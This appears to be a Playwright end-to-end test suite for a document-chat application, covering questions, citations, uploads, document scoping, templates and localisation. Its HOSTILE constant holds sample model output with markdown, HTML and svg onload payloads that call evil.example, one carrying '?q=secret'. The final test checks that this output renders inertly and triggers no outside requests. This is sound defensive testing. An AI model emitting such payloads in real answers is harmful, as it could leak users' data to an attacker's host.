"""The whole product in a real browser: sign in, ask, cite, upload, judge, and what others see of it; over a tiny real corpus."""

from pathlib import Path
from urllib.parse import urlsplit

import pytest
from chat_house import CHROMIUM, FILES, PDF, SENTENCE, again, ask, browser, enter, house, settled
from playwright.sync_api import Page, expect

from apps.chat.texts import ENGLISH, KOREAN
from apps.chat.words import words_of
from llmflow.answering.chosen_documents import ALL_GONE

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="needs chromium: apt-get install chromium"),
]
HOSTILE = """The answer ![x](https://evil.example/pixel.png?q=secret) and [here](https://evil.example/go) goes on.
<img src="https://evil.example/raw.png"> <a href="https://evil.example/a">a</a> https://evil.example/plain
<svg onload="fetch('https://evil.example/svg')"></svg> ![y][ref] <https://evil.example/auto>

[ref]: https://evil.example/reference.png

| table | ![t](//evil.example/table.png) |
|---|---|
| <iframe src="https://evil.example/frame"></iframe> | [j](javascript:alert(1)) |

This is the end of the answer."""
__all__ = ["browser", "house"]


def test_a_day_in_the_house(browser, house, tmp_path):
    anna = enter(browser, house, "anna")
    expect(anna.locator("#account")).to_contain_text("anna")
    expect(anna.locator("#top [data-act=gear]")).to_be_hidden()
    ask(anna, "반반차는 몇 시간 단위로 쓸 수 있나요?")
    expect(anna.locator("#chat .turn").last).to_contain_text("2시간 단위")
    ask(anna, "How many desks does the Munich office have?")
    expect(anna.locator("#chat .turn").last).to_contain_text("forty-two desks")
    anna.locator("#chat .turn").last.locator(".cite").first.click()
    expect(anna.locator(".quoted-text mark")).to_contain_text("forty-two desks")
    with anna.expect_download() as download:
        anna.locator(".passage .download").click()
    assert Path(download.value.path()).read_text(encoding="utf-8") == FILES["office.md"]
    anna.locator("#chat .turn").last.locator("[data-rating=up]").click()
    expect(anna.locator("#chat .turn").last.locator("[data-rating=up]")).to_have_attribute("aria-pressed", "true")

    upload_and_ask(anna, tmp_path)
    own = anna.url
    narrow_and_shape(anna)
    narrowed = choose_documents(anna)
    anna.goto(own)
    expect(anna.locator("#chat .turn")).to_have_count(4)

    ben = enter(browser, house, "ben", "ko-KR")
    ask(ben, "How high is the zephyr allowance?")
    expect(ben.locator(".nothing strong")).to_have_text(KOREAN.not_found)
    ben.goto(own)
    expect(ben.locator(".welcome .notice")).to_have_text(KOREAN.no_chat)
    ben.locator("#top [data-act=files]").click()
    expect(ben.locator("#file-list")).to_have_text(words_of("ko")["files_none"])
    upload_broken(ben, tmp_path)

    boss = enter(browser, house, "boss")
    boss.locator("#top [data-act=gear]").click()
    expect(boss.locator("#gear-box dd").first).to_contain_text("3")
    boss.keyboard.press("Escape")
    deleted = boss.evaluate("""async () => {
        const found = await (await fetch('/api/documents?space=all')).json();
        const one = found.items.find((item) => item.name.endsWith('zephyr.pdf'));
        return (await fetch(`/api/documents/${one.id}`, {method: 'DELETE'})).status;
    }""")
    assert deleted == 200

    anna.reload()
    expect(anna.locator("#chat .turn")).to_have_count(4)
    expect(anna.locator("#chat .turn").last.locator(".aside")).to_have_text(ENGLISH.withdrawn)
    anna.goto(narrowed)
    expect(anna.locator("#chosen .chosen-one.gone")).to_have_count(1)
    ask(anna, "How many desks does the Munich office have?")
    expect(anna.locator("#chat .nothing").last).to_contain_text(ALL_GONE["en"])
    anna.keyboard.press("Control+Shift+O")
    expect(anna.locator(".welcome")).to_be_visible()
    ask(anna, "How high is the zephyr allowance?")
    expect(anna.locator("#chat .nothing strong")).to_have_text(ENGLISH.not_found)
    anna.locator("#account").click()
    anna.get_by_role("menuitem", name=words_of("en")["sign_out"]).click()
    anna.wait_for_url("**/sign-in*")
    anna.goto(own)
    expect(anna.locator("#password")).to_be_visible()


def narrow_and_shape(page: Page) -> None:
    """Ask in one's own files only, in shared ones only, and with a template's examples, in a chat of its own."""
    words = words_of("en")
    page.keyboard.press("Control+Shift+O")
    expect(page.locator(".welcome")).to_be_visible()
    space = page.get_by_role("combobox", name=words["space"])
    expect(space).to_have_value("all")
    space.select_option(label=words["space_own"])
    expect(page.locator("#announce")).to_contain_text(words["space_own"])
    ask(page, "How many desks does the Munich office have?")
    last = page.locator("#chat .turn").last
    expect(last.locator(".nothing")).to_contain_text("Only your own files were searched.")
    expect(last.locator(".origin")).to_contain_text(ENGLISH.space_own)
    ask(page, "How high is the zephyr allowance?")
    expect(last).to_contain_text("ninety euros")
    space.select_option("shared")
    ask(page, "How high is the zephyr allowance?")
    expect(last.locator(".nothing")).to_contain_text("Only shared documents were searched.")
    again(page)  # asked anew where it was asked
    expect(last.locator(".nothing")).to_contain_text("Only shared documents were searched.")
    space.select_option("all")

    made = page.evaluate("""async () => (await fetch('/api/templates', {
        method: 'POST', headers: {'Content-Type': 'application/json'},
        body: JSON.stringify({name: 'desks', title: 'Desks', text: 'How many desks does the {{city}} office have?',
                              examples: [{question: 'How many chairs?', answer: '- **12** [1]'}]}),
    })).status""")
    assert made == 201
    page.locator("#question").fill("/desks")
    page.locator("#templates [role=option]").first.click()
    form = page.locator("#template-fill")
    expect(form).to_contain_text(words["template_examples_hint"])
    form.locator("textarea").fill("Munich")
    form.locator("[type=submit]").click()
    chip = page.locator("#shown-examples")
    expect(chip).to_contain_text("1 example(s) of /desks")
    page.get_by_role("button", name=words["template_examples_drop"]).click()
    expect(chip).to_be_hidden()
    page.locator("#question").fill("/desks")
    page.locator("#templates [role=option]").first.click()
    form.locator("textarea").fill("Munich")
    form.locator("[type=submit]").click()
    expect(chip).to_be_visible()
    page.locator("#question").press("Enter")
    expect(page.locator("#chat .turn")).to_have_count(4)
    settled(page)
    expect(last).to_contain_text("forty-two desks")
    expect(last.locator(".origin")).to_contain_text(ENGLISH.examples_unused)
    expect(chip).to_be_hidden()


def choose_documents(page: Page) -> str:
    """Ask about one document, chosen in the list and at a citation; all of it by keyboard. Returns the chat's address."""
    words = words_of("en")
    page.keyboard.press("Control+Shift+O")
    expect(page.locator(".welcome")).to_be_visible()
    chips, question = page.locator("#chosen .chosen-one"), page.locator("#question")
    last = page.locator("#chat .turn").last
    page.get_by_role("combobox", name=words["space"]).select_option("own")
    page.locator("#top [data-act=files]").press("Enter")
    expect(page.locator("#shared-list .file")).to_have_count(len(FILES))
    page.get_by_role("searchbox", name=words["shared_search"]).fill("office")
    expect(page.locator("#shared-list .file")).to_have_count(1)
    page.get_by_role("button", name=f"{words['ask_document']}: Offices").press("Enter")
    expect(page.locator("#file-box")).to_have_count(0)
    expect(question).to_be_focused()
    expect(chips).to_have_text("This document: Offices")
    expect(page.get_by_role("group", name=words["chosen"])).to_be_visible()
    expect(page.locator("#announce")).to_contain_text("Offices")
    expect(page.get_by_role("combobox", name=words["space"])).to_have_value("all")
    ask(page, "How high is the zephyr allowance?")
    expect(last.locator(".nothing")).to_contain_text("Only the chosen documents were searched.")
    expect(last.locator(".origin")).to_contain_text(ENGLISH.chosen.format(n=1))
    ask(page, "How many desks does the Munich office have?")
    expect(last).to_contain_text("forty-two desks")
    page.get_by_role("button", name=words["chosen_drop"].format(title="Offices")).press("Enter")
    expect(page.locator("#chosen")).to_be_hidden()
    expect(question).to_be_focused()
    again(page)  # asked anew where it was asked
    expect(last.locator(".origin")).to_contain_text(ENGLISH.chosen.format(n=1))
    ask(page, "How high is the zephyr allowance?")
    expect(last).to_contain_text("ninety euros")
    last.locator(".cite").first.click()
    page.locator("#panel .passage [data-act=ask-document]").press("Enter")
    expect(chips).to_have_count(1)
    ask(page, "How many desks does the Munich office have?")
    expect(last.locator(".nothing")).to_be_visible()
    narrowed = page.url
    page.keyboard.press("Control+Shift+O")
    expect(page.locator("#chosen")).to_be_hidden()
    return narrowed


def upload_and_ask(page: Page, folder: Path) -> None:
    words = words_of("en")
    for name, content in (("zephyr.pdf", PDF), ("broken.pdf", b"%PDF-1.4 this is broken")):
        (folder / name).write_bytes(content)
    page.locator("#top [data-act=files]").click()
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name=words["files_choose"]).click()
    chooser.value.set_files([folder / "zephyr.pdf", folder / "broken.pdf"])
    ready = page.locator(".file", has_text="zephyr.pdf")
    expect(ready).to_have_attribute("data-status", "ready", timeout=90_000)
    expect(page.locator(".file", has_text="broken.pdf").first).to_have_attribute("data-status", "failed")
    expect(page.locator(".file", has_text="broken.pdf").first.locator(".file-reason")).not_to_be_empty()
    page.keyboard.press("Escape")
    ask(page, "Summarise this document")  # the one just uploaded
    expect(page.locator("#chat .turn").last).to_contain_text(SENTENCE)
    expect(page.locator("#chosen .chosen-one")).to_have_count(1)
    page.locator("#chosen button").click()
    ask(page, "How high is the zephyr allowance?")
    expect(page.locator("#chat .turn").last).to_contain_text("ninety euros")
    page.locator("#chat .turn").last.locator(".cite").first.click()
    picture = page.locator(".page-picture img")
    expect(picture).to_be_visible()
    page.wait_for_function("document.querySelector('.page-picture img')?.naturalWidth > 100")


def upload_broken(page: Page, folder: Path) -> None:
    """The reason of a failure is told in the language of the page, and what to do about it too."""
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name=words_of("ko")["files_choose"]).click()
    chooser.value.set_files([folder / "broken.pdf"])
    failed = page.locator(".file", has_text="broken.pdf").first
    expect(failed).to_have_attribute("data-status", "failed")
    expect(failed.locator(".file-reason")).to_contain_text("PDF가 손상되었습니다")
    expect(failed.locator(".file-reason")).to_contain_text("다시 저장하거나")


def test_what_a_model_writes_leads_nowhere_and_loads_nothing(browser, house):
    page = enter(browser, house, "eve")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    eve = house.workspace.application.accounts.find("acme", "eve")
    store = house.workspace.application.conversations
    session = store.create("acme", eve.id, "Exfiltration")
    _, pending = store.begin(session.id, eve.id, "What is the secret?")
    store.finish(pending.id, eve.id, HOSTILE, "done", (), {"found": True, "model": "chat", "confidence": 0.9})
    page.goto(f"{house.url}?session={session.id}")
    answer = page.locator("#chat .turn .answer").last
    expect(answer).to_contain_text("end of the answer")
    assert answer.locator("a, img, iframe, form, svg, object, embed, video, style, script, link").count() == 0
    page.wait_for_load_state("networkidle")
    assert asked and {urlsplit(url).hostname for url in asked if not url.startswith(("data:", "blob:"))} == {"127.0.0.1"}
